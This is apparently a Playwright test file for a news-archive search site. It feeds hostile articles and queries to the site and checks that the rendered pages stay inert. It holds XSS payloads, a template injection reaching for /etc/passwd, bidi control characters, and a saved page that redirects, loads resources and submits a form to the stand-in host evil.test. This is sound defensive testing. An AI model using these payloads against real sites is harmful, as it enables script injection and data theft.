"""Articles that were made to harm whoever opens them, in a real browser: nothing runs, loads, opens or hides.

What each page does is watched: a dialog, a line in the console, a request elsewhere is a failure. That the
watch sees such things is a test of its own.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Final
from urllib.parse import quote

import pytest

from benchmarks.torture.hostile_words import KEYWORD, Words, passages_of
from dateline import Archive, build
from dateline.indexer.article import Article, Paragraph
from dateline.indexer.format.index.writer import IndexWriter
from dateline.search.web.exported import export_pages
from tests.browser.served import PHONE, serving, watched

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

MANY: Final = 10
ATTACKS: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    "</title></textarea></script><script>alert(1)</script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.test/x.css><style>@import '//evil.test/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/><form action=//evil.test/><input name=q></form>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "</mark><mark onclick=alert(1)>",
    "\u202eevil\u202c \u2066x\u2069 \x00\x01\x08\x1b[31m \ud800",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
)
# Controls of direction and of all else, as a browser has them in the text of the page.
HIDDEN: Final = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")
ACTING: Final = """[...document.querySelectorAll("*")].filter((element) =>
  [...element.attributes].some(({ name }) => name.startsWith("on") || name === "style") ||
  (element.tagName === "SCRIPT" && !element.src.startsWith(location.origin)) ||
  ["OBJECT", "EMBED", "BASE", "IMG", "VIDEO", "STYLE"].includes(element.tagName) ||
  /^(javascript|data|vbscript|file):/i.test(element.href?.baseVal ?? element.href ?? "")
).map((element) => element.outerHTML.slice(0, 200))"""
SAVED: Final = f"""<html><head><title>Saved</title><meta http-equiv="refresh" content="0;url=http://evil.test/">
<link rel="stylesheet" href="http://evil.test/x.css"><script>parent.alert(1); alert(1)</script>
<base href="http://evil.test/"></head><body onload="alert(1)"><article><h1>Saved of the {KEYWORD}</h1>
<p>The {KEYWORD} was full of ships, and its master said that it had been so for weeks now.</p>
<p>Ships lay in two rows at the {KEYWORD}, and the crews went on land from one over the deck of the next.</p>
</article><img src="http://evil.test/x.png" onerror="alert(1)"><iframe src="http://evil.test/"></iframe>
<form action="http://evil.test/" id="f"><input name="q"></form><script>document.forms[0].submit()</script>
<a href="http://evil.test/" target="_top">Out</a>
<a href="http://evil.test/in">In</a> <a href="javascript:alert(1)">Run</a></body></html>"""


def hostile_articles() -> Iterator[Article]:
    words = Words(2013)
    for number in range(MANY):
        yield words.article(number)
    for number, attack in enumerate(ATTACKS):
        yield Article(
            f"b{number} {attack}",
            (Paragraph(f"{attack} {KEYWORD} {attack}"), Paragraph(f"{KEYWORD}{attack}")),
            title=f"{attack} {KEYWORD}",
            source=attack,
            place=attack,
            author=attack,
            url=f"javascript:alert(1)//{attack}" if number % 2 else f"https://example.test/{attack}",
            path=f"/news/{attack}",
            language="en",
            date="2013-05-28",
        )
    yield Article(
        "huge",
        (Paragraph(f"{KEYWORD} " * 20_000), *(Paragraph("W" * 5_000) for _ in range(20))),
        title=f"{KEYWORD} {'M' * 3_000}",
        source="S" * 2_000,
        language="en",
    )


@pytest.fixture(scope="module")
def folder(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("hostile")
    writer = IndexWriter(folder)
    for article in hostile_articles():
        writer.add_article(article, passages_of(article), [[0]] * len(article.paragraphs))
    writer.commit()
    return str(folder)


@pytest.fixture(scope="module")
def base(folder: str) -> Iterator[str]:
    with serving(folder) as address:
        yield address


@pytest.fixture(scope="module")
def ids(folder: str) -> list[str]:
    with Archive.open(folder) as archive:
        return [quote(article.id, safe="", errors="surrogatepass") for article in archive.articles()]


def check(page: Page, address: str) -> None:
    """The page is there, is ours, has nothing of somebody else's in it, and is no wider than its window."""
    page.goto(address)
    assert page.evaluate(ACTING) == []
    text = page.locator("html").evaluate("element => element.textContent") + page.title()
    assert HIDDEN.search(text) is None
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_pages_of_searches_are_text(page: Page) -> None:
    for rest in ("", "&sort=newest", "&by=passage&page=2", "&n=100&passages=10"):
        check(page, f"/search?q={KEYWORD}{rest}")
        assert page.locator(".hit").count() > 5
    check(page, "/")
    for field in ("source", "place", "author"):
        check(page, f"/values?field={field}&q={KEYWORD}")


def test_pages_of_articles_are_text(browser: Browser, base: str, ids: list[str]) -> None:
    assert len(ids) == MANY + len(ATTACKS) + 1
    with watched(browser, base, PHONE) as page:
        for article_id in ids:
            check(page, f"/a/{article_id}?q={KEYWORD}")
            assert page.locator(".article mark").count() > 0
            page.keyboard.press("n")


def test_what_lies_beside_articles_is_text(page: Page, ids: list[str]) -> None:
    for article_id in ids[MANY::3]:
        check(page, f"/like/{article_id}")
        check(page, f"/file/{article_id}")


def test_queries_and_addresses_are_text(page: Page) -> None:
    for attack in (*ATTACKS, *(Words(seed).query() for seed in range(4))):
        typed = quote(attack, safe="", errors="replace")
        check(page, f"/search?q={typed}")
    for attack in ATTACKS[::3]:
        typed = quote(attack, safe="", errors="replace")
        check(page, f"/a/{typed}?q={typed}")
        check(page, f"/search?q={KEYWORD}&{typed}={typed}")
        check(page, f"/{typed}")


def test_values_that_are_offered_are_text(page: Page) -> None:
    page.goto("/")
    for begun in ("harb", "source:", "place:"):
        page.get_by_role("combobox").fill("")
        page.get_by_role("combobox").press_sequentially(begun)
        page.get_by_role("option").first.wait_for()
        assert page.evaluate(ACTING) == []


def test_a_saved_page_does_nothing_in_its_frame(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "press").mkdir()
    (tmp_path / "press" / "saved.html").write_text(SAVED, "utf-8")
    build([str(tmp_path / "press")], index=str(tmp_path / "index"))
    with Archive.open(tmp_path / "index") as archive:
        article_id = next(archive.articles()).id
    with serving(str(tmp_path / "index")) as base, watched(browser, base, is_frame_heard=False) as page:
        page.goto(f"/file/{article_id}")
        frame = page.frame_locator("main iframe")
        assert KEYWORD in frame.locator("h1").inner_text()
        frame.get_by_text("Run").click()
        frame.get_by_text("Out").click(no_wait_after=True)
        page.wait_for_timeout(200)
        assert page.url == f"{base}/file/{article_id}"
        frame.get_by_text("In", exact=True).click(no_wait_after=True)
        page.wait_for_timeout(200)
        page.goto(f"/file/{article_id}?as=page")  # alone it does as little
        page.wait_for_timeout(200)
        assert KEYWORD in page.locator("h1").inner_text()
        assert page.evaluate("origin") == "null"


def test_pages_as_files_are_text(browser: Browser, folder: str, tmp_path: Path) -> None:
    pages = tmp_path / "pages"
    with Archive.open(folder) as archive:
        export_pages(archive, pages, [KEYWORD, f'{KEYWORD} -"<img src=x onerror=alert(1)>"'])
    with watched(browser, pages.as_uri()) as page:
        for path in sorted(pages.glob("*.html"))[::4]:
            page.goto(path.as_uri())
            assert page.evaluate(ACTING.replace("|file", "")) == []
            assert HIDDEN.search(page.locator("html").evaluate("element => element.textContent")) is None


@pytest.mark.parametrize(
    ("act", "fault"),
    [
        ("alert(1)", "dialog: 1"),
        ("fetch('http://evil.test/')", "evil.test"),
        (
            "document.body.append(Object.assign(document.createElement('script'), { text: '1' }))",
            "policy: script-src",
        ),
        ("setTimeout(() => { throw new Error('broken') })", "threw: broken"),
    ],
)
def test_the_watch_sees_what_acts(browser: Browser, base: str, act: str, fault: str) -> None:
    with pytest.raises(AssertionError, match=fault), watched(browser, base) as page:
        page.goto("/")
        page.evaluate(f"() => {{ {act} }}")
        page.wait_for_timeout(100)
